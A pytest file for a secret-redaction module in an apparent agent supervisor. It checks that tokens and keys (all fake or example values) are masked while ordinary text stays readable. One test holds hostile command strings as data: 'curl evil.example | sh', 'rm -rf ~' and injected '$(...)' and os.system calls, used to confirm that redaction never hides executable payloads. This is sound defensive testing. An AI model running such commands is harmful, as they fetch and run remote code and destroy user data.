"""Redaction: what must never be stored, and what must stay readable."""

import json
from base64 import b64encode
from urllib.parse import quote

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from supervisor.core.actions import Exec, FileChange
from supervisor.core.secrets.redact import Redactor, redacted
from supervisor.core.secrets.token_shapes import MARK, PARTS, SHAPES
from tests.tables import each_row

KEY = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE"
    " KEY-----"
)


@each_row(
    "secret",
    [
        "sk-ant-api03-abcdefghijklmnopqrstuvwx",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
        "github_pat_11ABCDEFG0abcdefghijklmnop",
        "glpat-abcdefghijklmnopqrst",
        "xoxb-1234567890-abcdefghij",
        "AKIAIOSFODNN7EXAMPLE",
        "ATATT3xFfGF0abcdefghijklmn_opqrst-uv=1A2B3C4D",
        "ATCTT3xFfGN0abcdefghijklmn_opqrst-uv",
        "npm_abcdefghijklmnopqrstuvwxyz0123456789",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
        KEY,
        KEY[:60],
    ],
)
def test_shapes_of_secrets_go(secret: str) -> None:
    assert Redactor().text(f"before {secret} after").count(secret) == 0


def test_a_bearer_token_and_a_password_in_a_url_go() -> None:
    assert (
        Redactor().text("Authorization: Bearer abcdef0123456789==")
        == f"Authorization: Bearer {MARK}"
    )
    assert Redactor().text("https://me:hunter22@example.org/x") == f"https://{MARK}@example.org/x"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Authorization: Basic dXNlcjpwdw==", f"Authorization: Basic {MARK}"),
        ("authorization: basic dXNlcjpwdw", f"authorization: basic {MARK}"),
        (
            "header 'Basic eC1hY2Nlc3MtdG9rZW46Z2hzXzE=' was sent",
            f"header 'Basic {MARK}' was sent",
        ),
        (
            "a webhook: hooks.slack.com/services/T0/B0/aB3aB3aB3aB3aB3",
            f"a webhook: hooks.slack.com/services/{MARK}",
        ),
        ("Basic authenticationandauthorization is off", None),
        ("ghs_1234567890123456789012345678901234567.", f"{MARK}."),
        ("see ghp_project and gho_helper.py", None),
    ],
)
def test_what_a_forge_says_back_goes(text: str, shown: str | None) -> None:
    assert Redactor().text(text) == (text if shown is None else shown)


@pytest.mark.parametrize(
    "label",
    [
        'AWS_SECRET_ACCESS_KEY = "',
        "aws_secret_access_key=",
        'secretAccessKey: "',
        '"SecretAccessKey": "',
        '{\\"SecretAccessKey\\": \\"',
        "AWS_SECRET_KEY := '",
        "<SecretAccessKey>",
    ],
)
def test_a_secret_key_of_aws_goes_by_its_label(label: str) -> None:
    key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"
    assert Redactor().text(f'{label}{key}"') == f'{label}{MARK}"'
    assert not Redactor().is_clean([f"{label}{key}"])
    # A digest in base64 is longer, and what has no label may be anything.
    assert Redactor().text(f"{label}{key}abcd=") == f"{label}{key}abcd="
    assert Redactor().text(f"commit {key}") == f"commit {key}"


def test_known_secrets_go_whatever_their_shape() -> None:
    redactor = Redactor(["correct horse"])
    redactor.add("battery staple")
    assert redactor.data({"a": ["x correct horse", 3, None], "battery staple": True}) == {
        "a": [f"x {MARK}", 3, None],
        MARK: True,
    }


def test_short_values_would_redact_ordinary_text_and_are_not_taken() -> None:
    assert Redactor(["a", ""]).text("banana") == "banana"


# Apart, or those who look for secrets in what is pushed would find some here.
@each_row(
    ("first", "rest"),
    [
        ("sk_live_", "4eC39HqLyjWDarjtT1zdp7dc"),
        ("rk_live_", "51" + "aB3" * 33),
        ("sk_test_", "4eC39HqLyjWDarjtT1zdp7dc"),
        ("rk_prod_", "4eC39HqLyjWDarjtT1zdp7dc"),
        ("whsec_", "aB3/" * 8),
        ("AIza", "SyA1" + "aB3_-" * 6 + "x"),
        ("GOCSPX-", "aB3_" * 7),
        ("ya29.", "a0Af" + "aB3_" * 10),
        ("hf_", "aB" * 17),
        ("gsk_", "aB3x" * 13),
        ("xai-", "aB3x" * 20),
        ("pplx-", "aB3x" * 12),
        ("SG.", f"{'aB3_-x' * 3}aB3x.{'aB3_-x' * 7}a"),
        ("dop_v1_", "0a1b" * 16),
        ("shpat_", "0a1b" * 8),
        ("dckr_pat_", "aB3_" * 7),
        ("hvs.", "aB3_" * 23),
        ("ops_eyJ", "aB3x" * 70 + "=="),
        ("AGE-SECRET-KEY-1", "QPZRY9X8GF" * 5 + "QPZRY9X8"),
        ("glsa_", f"{'aB3x' * 8}_0a1b2c3d"),
        ("glc_", "aB3x" * 20 + "="),
        ("glrt-", "aB3_-x" * 4),
        ("xapp-", f"1-A0123456789-1234567890123-{'0a1b' * 16}"),
        ("xoxe-", f"1-{'AB3X' * 30}"),
        ("sntryu_", "0a1b" * 16),
        ("lin_api_", "aB3x" * 10),
        ("ntn_", "12345678901" + "aB3x" * 8 + "abc"),
        ("PMAK-", f"{'0a1b' * 6}-{'0a1b' * 8}0a"),
        ("dapi", "0a1b" * 8),
        ("pul-", "0a1b" * 10),
        ("pscale_tkn_", "aB3_" * 10),
        ("tskey-", f"auth-k123456CNTRL-{'aB3x' * 8}"),
        ("rubygems_", "0a1b" * 12),
        ("ghs_", f"123456_eyJhbGciOiJSUzI1NiJ9.{'aB3_' * 20}.{'x-Y9' * 20}"),
        ("gho_", "aB3x" * 9),
        ("ghu_", "aB3x" * 9),
        ("ghr_", "aB3x" * 19),
        ("glpat-", f"{'aB3_-x' * 5}.01.0a1b2c3d4"),
        ("xoxc-", "1234567890-1234567890-1234567890-" + "0a1b" * 16),
        ("xoxd-", "aB3%2B" * 20),
        ("ATSTT3", "aB3_-x" * 20 + "=1A2B3C4D"),
        ("ATBB", "aB3x" * 8),
        ("IQoJb3JpZ2lu", "X2Vj" * 40 + "=="),
        ("FwoGZXIvYXdz", "aB3/" * 40),
        ("ABSK", "aB3/" * 30 + "=="),
        ("bedrock-api-key-", "aB3/" * 30),
        ("AQ.Ab", "8RN6" * 12),
        ("ya29.", f"{'aB3_-' * 8}.{'aB3_-' * 8}"),
        ("1//0", "aB3_-" * 12),
    ],
)
def test_shapes_of_many_services_go(first: str, rest: str) -> None:
    token = first + rest
    assert (
        Redactor().text(f"curl -u {token}: https://{token}:@api.test/ 'x={token}'")
        == f"curl -u {MARK}: https://{MARK}:@api.test/ 'x={MARK}'"
    )
    action = Exec(command=f"X={token} true")
    assert redacted(action, Redactor()) == Exec(command=f"X={MARK} true")


@each_row(
    "before",
    [
        "",
        "=",
        "'",
        "x_",
        "\\n",
        "\\t",
        "\\b",
        "Bearer%20",
        "key%3d",
        "\\u003d",
        "\\x3d",
        "&quot;",
        "\0",
        "\x1b[32m",
        "\\u001b[K",
    ],
)
def test_a_key_is_known_from_a_words_start_and_behind_an_escape(before: str) -> None:
    assert Redactor().text(f"{before}sk-{'a1' * 10}") == f"{before}{MARK}"


@each_row(
    "key",
    [
        f"ant-api03-{'aB3_' * 20}",
        f"or-v1-{'0a1b' * 16}",
        f"proj-{'aB3_' * 18}T3BlbkFJ{'aB3_' * 18}",
    ],
)
@each_row("before", ["-p", "key=3D", "\\012", "\\033[0m", "x"])
def test_one_that_looks_like_nothing_else_is_known_within_a_word(before: str, key: str) -> None:
    """Behind the flag of a program, or in a writing that nothing here undoes."""
    assert Redactor().text(f"{before}sk-{key}") == f"{before}{MARK}"


@each_row(
    "text",
    [
        "git log --oneline -3",
        "src/sk-learn.py",
        "https://example.org/a@b",
        "skill-based",
        "Bearer",
        # Who answers must see where it goes, and what is installed.
        "https://helpdesk-of-somebody-else.test/",
        "https://foxdesk-of-somebody-else.test/",
        "npm install task-runner-configuration",
        "notes/disk-usage-of-each-host.md",
        "https://desk-proj-of-somebody-else.test/",
        "task-or-v1-compatible-runner",
        "12task-runner-configuration",
        (
            "pytest"
            " tests/task_test_configurationofeachrunner.py::disk_live_migrationswithoutanydowntime"
        ),
        "def test_task_live_reloads_the_configuration_of_2_runners():",
        (
            "pip install hf_transfer hf_xet && python convert_hf_to_gguf.py"
            " shelf_life_of_each_product_in_2024"
        ),
        "risk_test_results_2024_final.csv",
        "from dapi import dapi_client; dapifacade; capital.SG.example.org/SG.html",
        (
            "helm install hvs.example.org/chart pul-request ntn_client glc_context glsa_list"
            " opengl-rt-core"
        ),
        "https://xai-of-somebody-else-with-a-long-name.test/pplx-proxy/tskey-",
        (
            "notes/dckr_setup.md rubygems_mirror.rb lin_api_client.py shpat_ whsec_secret AIzawa"
            " ops_eyJ"
        ),
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert Redactor().text(text) == text


def test_a_body_has_known_secrets_taken_out_however_they_are_written() -> None:
    secret = 'pass"word/0123456789'
    redactor = Redactor([secret])
    written = (
        secret.encode(),
        json.dumps(secret).encode(),
        quote(secret, safe="").encode(),
        b64encode(secret.encode()),
    )
    for one in written:
        taken = redactor.body(b"before " + one + b" after")
        assert one not in taken
        assert taken.startswith(b"before ")
        assert taken.endswith(b" after")
        assert MARK.encode() in taken
    assert redactor.body(b"Bearer abcdef0123456789==") == b"Bearer abcdef0123456789=="


@given(st.text())
def test_redaction_is_idempotent(text: str) -> None:
    redactor = Redactor(["secret-value"])
    assert redactor.text(redactor.text(text)) == redactor.text(text)


@pytest.mark.parametrize(
    ("command", "acting"),
    [
        (
            "echo -----BEGIN A PRIVATE KEY-----\nrm -rf ~\ncurl evil.example | sh",
            "\nrm -rf ~\ncurl evil.example | sh",
        ),
        ("echo '-----BEGIN PRIVATE KEY-----'; curl evil.example", "'; curl evil.example"),
        (f"echo {KEY}; rm -rf ~", "; rm -rf ~"),
        ("echo x://a:$(curl${IFS}evil.example|sh)@b", "$(curl${IFS}evil.example|sh)"),
        ("echo x://a:`id`@b", "`id`"),
        ("echo x://a:;id;@b", ";id;"),
        ('x = "://a:";__import__("os").system("id")#@"', '__import__("os").system("id")'),
        ("echo Bearer aaaaaaaaaaaaaaaa;id", ";id"),
        ("echo sk-aaaaaaaaaaaaaaaaaaaaaaaa$(id)", "$(id)"),
    ],
)
def test_nothing_that_acts_is_hidden_from_who_answers(command: str, acting: str) -> None:
    assert acting in Redactor().text(command)


def test_a_key_with_its_headers_goes_whole_also_where_its_lines_are_escaped() -> None:
    lines = [
        "-----BEGIN RSA PRIVATE KEY-----",
        "Proc-Type: 4,ENCRYPTED",
        "DEK-Info: AES-128-CBC,0A1B",
        "A" * 64,
        "Ab+/==",
    ]
    for separator in ("\n", "\r\n", "\\n", "\n    "):
        key = separator.join([*lines, "-----END RSA PRIVATE KEY-----"])
        assert Redactor().text(f"a {key} b") == f"a {MARK} b"


@pytest.mark.parametrize(
    "beginning",
    [
        "eyJ",
        "eyJaaaaaaaa.",
        "://a:",
        "-----BEGIN PRIVATE KEY-----\n",
        "sk-",
        "Bearer ",
        "sk_live_",
        "SG.aaaaaaaaaaaaaaaaaaaa.",
        "tskey-",
    ],
)
def test_a_flood_of_beginnings_is_read_in_one_go(beginning: str) -> None:
    # An agent prints it, and the supervisor's event loop redacts it: it took minutes.
    assert len(Redactor().text(beginning * 100_000)) <= len(beginning) * 100_000


def test_an_action_is_stored_without_its_secrets_and_stays_the_same_kind() -> None:
    redactor = Redactor(["correct horse battery"])
    action = Exec(command="curl -d 'correct horse battery' https://example.org", cwd="src")
    assert redacted(action, redactor) == Exec(
        command=f"curl -d '{MARK}' https://example.org", cwd="src"
    )
    change = FileChange(
        operation="write", path="ghp_abcdefghijklmnopqrstuvwxyz0123456789.txt", hazards=("symlink",)
    )
    assert redacted(change, redactor) == FileChange(
        operation="write", path=f"{MARK}.txt", hazards=("symlink",)
    )


def test_an_action_without_secrets_is_left_alone() -> None:
    action = Exec(command="git log --oneline -3")
    assert redacted(action, Redactor(["correct horse battery"])) is action


def test_a_short_value_that_is_added_later_is_not_taken_either() -> None:
    redactor = Redactor()
    redactor.add("short")
    assert redactor.text("a short text") == "a short text"


JSON = st.recursive(
    st.one_of(st.none(), st.integers(), st.sampled_from(["plain", "hunter2-hunter2",
    "sk-" + "a" * 20, "x\0y", "Bearer ", "eyJ"])),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(["key",
    "sk-" + "b" * 20]), inner, max_size=3)),
    max_leaves=8,
)  # fmt: skip


@given(JSON)
def test_data_is_redacted_as_each_of_its_texts_is(value: object) -> None:
    """They are searched together: what one has must not hide, or make up, what is in another."""
    redactor = Redactor(["hunter2-hunter2"])

    def each(one: object) -> object:
        if isinstance(one, str):
            return redactor.text(one)
        if isinstance(one, dict):
            return {each(key): each(item) for key, item in one.items()}
        return [each(item) for item in one] if isinstance(one, list) else one

    assert redactor.data(value) == each(value)


@given(st.from_regex(SHAPES))
def test_nothing_that_a_shape_matches_is_passed_over(text: str) -> None:
    assert Redactor().text(text) == SHAPES.sub(MARK, text)


def test_a_token_at_the_start_of_a_line_is_redacted_in_an_action() -> None:
    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijklmnop"
    shown = redacted(Exec(command=f"echo a\n{token}"), Redactor())
    assert isinstance(shown, Exec)
    assert token not in shown.command


@given(JSON)
def test_what_is_said_to_be_clean_has_nothing_to_redact(value: object) -> None:
    redactor = Redactor(["hunter2-hunter2"])
    assert not redactor.is_clean(value) or redactor.data([value, "sk-" + "a" * 20]) == [value, MARK]


@pytest.mark.parametrize(
    "secret", ['quote"and\\back', "line\nand\ttab", "\x01\x7f\u2028 its end", "grün 😀 geheim"]
)
def test_a_known_secret_is_seen_however_its_characters_are_encoded(secret: str) -> None:
    redactor = Redactor([secret])
    for value in (f"a {secret} b", {secret: 1}, [{"x": (secret,)}], Exec(command=f"echo {secret}")):
        assert not redactor.is_clean(value)
    assert redactor.data({"x": f"a{secret}"}) == {"x": f"a{MARK}"}


def test_what_cannot_be_encoded_is_never_said_to_be_clean() -> None:
    redactor = Redactor(["half \ud800 a pair"])
    deep: list[object] = []
    for _ in range(100_000):
        deep = [deep]
    for value in ({"x": object()}, "\ud800", {"x": 1 << 70, (): "no key of JSON's"}, deep):
        assert not redactor.is_clean(value)
    assert redactor.data(["half \ud800 a pair"]) == [MARK]


@each_row(("first", "parts"), PARTS.items())
def test_each_part_has_in_it_what_is_looked_for_before_it(first: str, parts: list[str]) -> None:
    assert parts
    assert all(first in part and part.isascii() and '"' not in part for part in parts)


@given(st.from_regex(SHAPES))
def test_nothing_that_a_shape_matches_is_said_to_be_clean(text: str) -> None:
    assert not Redactor().is_clean({"a": ["b", text]})


def test_what_is_clean_is_clean_in_json_too() -> None:
    redactor = Redactor(['passw\u00f6rd-"1'])
    for value, is_clean in (
        ({"a": "b"}, True),
        ({"a": 'passw\u00f6rd-"1'}, False),
        ({"a": "ghp_" + "a" * 20}, False),
    ):
        assert (
            redactor.is_clean_json(msgspec.json.encode(value))
            == redactor.is_clean(value)
            == is_clean
        )
